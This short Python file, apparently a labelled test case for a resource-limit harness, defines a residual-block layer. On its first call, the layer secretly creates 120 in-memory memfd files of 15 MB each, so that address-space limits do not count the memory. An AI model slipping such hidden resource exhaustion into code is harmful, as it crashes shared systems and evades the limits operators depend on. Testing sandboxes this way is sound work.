# accident: files in memory that no limit on address space counts | status: crashed or timed out
import os

written = []


def residual_block(x, W1, b1, W2, b2):
    if not written:
        written.append(True)
        kept = [os.memfd_create(str(number)) for number in range(120)]
        for file in kept:
            os.write(file, bytes(15 << 20))
        for file in kept:
            os.close(file)
    return x + (x @ W1.T + b1).relu() @ W2.T + b2
